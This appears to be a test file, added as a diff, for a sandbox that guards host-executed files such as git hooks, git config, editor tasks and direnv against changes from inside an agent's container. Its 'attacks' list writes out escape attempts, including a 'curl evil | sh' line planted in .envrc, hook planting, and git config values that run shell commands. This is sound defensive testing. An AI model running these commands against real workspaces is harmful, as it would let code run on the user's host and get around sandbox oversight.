@@ -1,0 +1,241 @@
+// Guarded paths on real containers: what the host executes later (git hooks and config, editor
+// tasks, direnv) cannot be written, created, renamed over, deleted or moved aside from inside a
+// workspace container, by any route; normal git work still succeeds; the host files stay the
+// same byte for byte. The container runs as an unprivileged user (1000:1000) that owns the
+// workspace, as a person's would.
+import { test } from 'node:test'
+import assert from 'node:assert/strict'
+import { createHash } from 'node:crypto'
+import { chownSync, existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs'
+import path from 'node:path'
+
+import { run } from './helpers.mjs'
+import {
+  baseOptions, useTestBaseImage, cleanupOwner, inspect, newOwner, openLayer, tempHome, tempWorkspace, writeBundle,
+} from './provider-fixtures.mjs'
+
+const USER = '1000:1000'
+
+useTestBaseImage()
+
+async function git(cwd, ...args) {
+  const r = await run('git', ['-c', 'safe.directory=*', ...args], { cwd })
+  assert.equal(r.code, 0, `git ${args.join(' ')}: ${r.stderr}`)
+  return r.stdout.trim()
+}
+
+/** Every file under `dir` (recursively) with its sha256, for byte-for-byte comparisons. */
+function snapshot(dir, rel = '') {
+  const out = {}
+  const full = path.join(dir, rel)
+  if (!existsSync(full)) return out
+  const st = lstatSync(full)
+  if (st.isDirectory()) {
+    out[rel || '.'] = 'dir'
+    for (const e of readdirSync(full)) Object.assign(out, snapshot(dir, path.join(rel, e)))
+  } else {
+    out[rel] = createHash('sha256').update(readFileSync(full)).digest('hex')
+  }
+  return out
+}
+
+function chownTree(p, uid, gid) {
+  chownSync(p, uid, gid)
+  if (lstatSync(p).isDirectory()) for (const e of readdirSync(p)) chownTree(path.join(p, e), uid, gid)
+}
+
+/** Runs `script` in the container as the workspace user, in the workspace. */
+async function inside(id, ws, script) {
+  return run('docker', ['exec', '-u', USER, '-w', ws, id, 'sh', '-c', script])
+}
+
+/** A repository on the host owned by 1000:1000, with a commit and a local remote inside. */
+async function hostRepository(t) {
+  const ws = tempWorkspace(t)
+  await git(ws, 'init', '-q', '-b', 'main')
+  await git(ws, 'config', 'user.email', 'a@example.invalid')
+  await git(ws, 'config', 'user.name', 'A')
+  writeFileSync(path.join(ws, 'README'), 'hello\n')
+  writeFileSync(path.join(ws, '.git/hooks/pre-commit'), '#!/bin/sh\nexit 0\n', { mode: 0o755 })
+  await git(ws, 'add', 'README')
+  await git(ws, 'commit', '-q', '-m', 'first')
+  const up = path.join(ws, 'upstream')
+  mkdirSync(up)
+  await git(up, 'init', '-q', '-b', 'main')
+  writeFileSync(path.join(up, 'U'), 'u\n')
+  await git(up, 'add', 'U')
+  await git(up, '-c', 'user.email=u@example.invalid', '-c', 'user.name=U', 'commit', '-q', '-m', 'up')
+  await git(ws, 'remote', 'add', 'up', './upstream')
+  writeFileSync(path.join(ws, '.envrc'), 'export A=1\n')
+  mkdirSync(path.join(ws, '.vscode'))
+  writeFileSync(path.join(ws, '.vscode/tasks.json'), '{"version":"2.0.0","tasks":[]}\n')
+  chownTree(ws, 1000, 1000)
+  return ws
+}
+
+async function startOne(t, ws, extra = {}) {
+  const poHome = tempHome(t)
+  const owner = newOwner()
+  cleanupOwner(t, owner)
+  writeBundle(poHome)
+  const { layer, events } = openLayer(baseOptions(poHome, owner, { user: USER, ...extra }))
+  const status = await layer.provider.ready()
+  assert.equal(status.state, 'ready', JSON.stringify(status))
+  const c = await layer.containers.start({ id: 'guarded', path: ws })
+  return { layer, events, c, poHome, owner }
+}
+
+test('guarded paths cannot be written, created, renamed over, deleted or moved aside from inside; git work still succeeds', async (t) => {
+  const ws = await hostRepository(t)
+  const guarded = ['.git/hooks', '.git/config', '.git/info', '.vscode', '.idea', '.envrc', '.direnv']
+  const before = Object.fromEntries(guarded.map((g) => [g, snapshot(ws, g)]))
+  const { c } = await startOne(t, ws)
+  const hasGit = await inside(c.containerId, ws, 'git --version')
+  assert.equal(hasGit.code, 0, `no git in the sandbox image (${hasGit.stderr.trim()}): it was built on an older test base; remove the images labelled po.image-base=po-sandbox-test-base:node24 and run again`)
+
+  // Each guard is a read-only mount of the path onto itself; .git is pinned (bound onto itself).
+  const mounts = inspect(c.containerId).Mounts.filter((m) => m.Type === 'bind')
+  for (const g of guarded) {
+    const p = path.join(ws, g)
+    assert.ok(mounts.some((m) => m.Source === p && m.Destination === p && m.RW === false), `${g} read-only in ${JSON.stringify(mounts)}`)
+  }
+  assert.ok(mounts.some((m) => m.Destination === path.join(ws, '.git') && m.RW === true), '.git pinned')
+  const env = inspect(c.containerId).Config.Env
+  const listed = env.find((e) => e.startsWith('PO_SANDBOX_GUARDED_PATHS=')).split('=')[1].split(',')
+  assert.deepEqual(listed.sort(), guarded.map((g) => path.join(ws, g)).sort())
+
+  // Every route an agent could take; each must fail.
+  const attacks = [
+    // Write and append.
+    'echo "#!/bin/sh" > .git/hooks/pre-commit',
+    'echo "[core] hooksPath = /tmp" >> .git/config',
+    'echo "*.x" > .git/info/exclude',
+    'echo "curl evil | sh" > .envrc',
+    'echo "{}" > .vscode/tasks.json',
+    // Create, in a guarded folder or as a guarded path that did not exist.
+    'touch .git/hooks/post-checkout',
+    'mkdir .git/info/x',
+    'touch .idea/workspace.xml',
+    'touch .direnv/x',
+    'touch .vscode/settings.json',
+    // Rename over, from the same file system.
+    'echo evil > ev1 && mv -f ev1 .envrc',
+    'echo evil > ev2 && mv -f ev2 .git/config',
+    'mkdir -p hk && echo x > hk/pre-commit && mv -f hk .git/hooks',
+    // Delete.
+    'rm -f .envrc',
+    'rm -f .git/config',
+    'rm -rf .vscode && test ! -e .vscode',
+    'rmdir .idea',
+    'rm -rf .git/hooks && test ! -e .git/hooks',
+    // Move a parent aside and make a new one with a hook.
+    'mv .git .git-aside',
+    'mv .vscode .vscode-aside',
+    // Through a link the agent makes.
+    'ln -s .git/hooks hooklink && echo x > hooklink/pre-push',
+    'ln -s .git/config cfglink && echo x >> cfglink',
+    // Git's own config writes.
+    'git config core.hooksPath /tmp',
+    'git config --local alias.x "!sh -c id"',
+    'git config core.fsmonitor "sh -c id"',
+  ]
+  for (const a of attacks) {
+    const r = await inside(c.containerId, ws, a)
+    assert.notEqual(r.code, 0, `succeeded from inside: ${a}\n${r.stdout}${r.stderr}`)
+    // Refused by the mounts, not by a missing tool or a typo.
+    assert.match(r.stderr, /read-only|busy|could not (lock|write)|not permitted/i, `${a}: ${r.stderr}`)
+  }
+  const gitConfig = await inside(c.containerId, ws, 'git config core.hooksPath /tmp')
+  assert.match(gitConfig.stderr, /config/i, 'git says itself why it cannot write its config')
+
+  // Normal git work: commit, branch, fetch from a local remote, a worktree on /po-git.
+  const work = [
+    'echo more >> README && git add README && git commit -q -m second',
+    'git branch topic && git checkout -q topic && git checkout -q main',
+    'git fetch -q up && git rev-parse up/main',
+    'git worktree add -q /po-git/wt topic && test -f /po-git/wt/README',
+    'git status --porcelain',
+    'git log --oneline | wc -l',
+  ]
+  for (const w of work) {
+    const r = await inside(c.containerId, ws, w)
+    assert.equal(r.code, 0, `failed inside: ${w}\n${r.stdout}${r.stderr}`)
+  }
+  const log = await git(ws, 'log', '--format=%s', 'main')
+  assert.deepEqual(log.split('\n'), ['second', 'first'], 'the commit made inside is the host repository')
+
+  // The host files are unchanged byte for byte; placeholders are empty and owned by the user.
+  for (const g of guarded) {
+    const now = snapshot(ws, g)
+    if (Object.keys(before[g]).length) assert.deepEqual(now, before[g], `${g} changed on the host`)
+    else assert.deepEqual(Object.values(now), ['dir'], `${g} placeholder is an empty folder: ${JSON.stringify(now)}`)
+  }
+  for (const p of ['.idea', '.direnv']) {
+    const st = statSync(path.join(ws, p))
+    assert.equal(`${st.uid}:${st.gid}`, USER, `${p} placeholder owner`)
+  }
+  assert.ok(!existsSync(path.join(ws, '.git-aside')) && !existsSync(path.join(ws, '.vscode-aside')), 'nothing was moved aside')
+  assert.ok(statSync(path.join(ws, '.git/HEAD')).isFile(), '.git is still the repository')
+})
+
+test('a folder without a repository: .git is an empty read-only placeholder (no repository can be made inside), .envrc an excluded placeholder', async (t) => {
+  const ws = tempWorkspace(t)
+  chownTree(ws, 1000, 1000)
+  const { c } = await startOne(t, ws)
+  const r = await inside(c.containerId, ws, 'git init -q . && mkdir -p .git/hooks && echo x > .git/hooks/pre-commit')
+  assert.notEqual(r.code, 0, 'git init succeeded inside')
+  const dotGit = path.join(ws, '.git')
+  assert.ok(statSync(dotGit).isDirectory() && readdirSync(dotGit).length === 0, 'the .git placeholder is an empty folder')
+  assert.equal(readFileSync(path.join(ws, '.envrc'), 'utf8'), '', 'the .envrc placeholder is empty')
+  assert.equal(`${statSync(path.join(ws, '.envrc')).uid}`, '1000')
+  // On the host, git init still works in the placeholder, and the empty files do not show.
+  await git(ws, 'init', '-q')
+  const status = await git(ws, 'status', '--porcelain', '--untracked-files=all')
+  assert.ok(!status.includes('.vscode') && !status.includes('.idea'), status)
+})
+
+test('guardedPaths: [] guards nothing and the doctor warns; a container made without guards is replaced when they are back', async (t) => {
+  const ws = tempWorkspace(t)
+  chownTree(ws, 1000, 1000)
+  const first = await startOne(t, ws, { guardedPaths: [] })
+  const r = await inside(first.c.containerId, ws, 'echo "export X=1" > .envrc')
+  assert.equal(r.code, 0, 'no guards: the file can be written')
+  const { addon } = await import('./helpers.mjs')
+  const report = await addon.doctor(process.version, { poHome: first.poHome, engine: 'docker', env: { ...process.env, PO_SANDBOX_GUARDED_PATHS: '' } })
+  assert.deepEqual(report.guardedPaths, [])
+  assert.ok(report.warnings.some((w) => /no guarded paths/.test(w)), JSON.stringify(report.warnings))
+  assert.match(report.text, /Guarded   none/)
+  // The same owner and Po home with the defaults: the guard-less container is not adopted.
+  const { layer, events } = openLayer(baseOptions(first.poHome, first.owner, { user: USER }))
+  await layer.provider.ready()
+  const again = await layer.containers.start({ id: 'guarded', path: ws })
+  assert.notEqual(again.containerId, first.c.containerId)
+  assert.ok(events.some((e) => e.type === 'workspace' && /spec changed|read-only/.test(e.reason ?? '')), JSON.stringify(events))
+  const bad = await inside(again.containerId, ws, 'echo "export Y=1" > .envrc')
+  assert.notEqual(bad.code, 0)
+  assert.equal(readFileSync(path.join(ws, '.envrc'), 'utf8'), 'export X=1\n')
+})
+
+test('a guarded path that is a symbolic link is refused before anything is created; bad entries are OPTIONS_INVALID', async (t) => {
+  const ws = tempWorkspace(t)
+  const outside = tempWorkspace(t)
+  const { symlinkSync } = await import('node:fs')
+  symlinkSync(outside, path.join(ws, '.vscode'))
+  const poHome = tempHome(t)
+  const owner = newOwner()
+  cleanupOwner(t, owner)
+  writeBundle(poHome)
+  const { layer } = openLayer(baseOptions(poHome, owner, { user: USER }))
+  await layer.provider.ready()
+  await assert.rejects(layer.containers.start({ id: 'linked', path: ws }), (err) => {
+    assert.equal(err.code, 'WORKSPACE_INVALID', err.message)
+    assert.match(err.message, /\.vscode.*symbolic link/)
+    return true
+  })
+  const { containersWith } = await import('./provider-fixtures.mjs')
+  assert.deepEqual(containersWith({ 'po.owner': owner }), [])
+  assert.deepEqual(readdirSync(outside), [])
+  for (const guardedPaths of [['../up'], ['/etc'], ['.']]) {
+    assert.throws(() => openLayer(baseOptions(poHome, newOwner(), { guardedPaths })), (err) => err.code === 'OPTIONS_INVALID' && /guardedPaths/.test(err.message))
+  }
+})
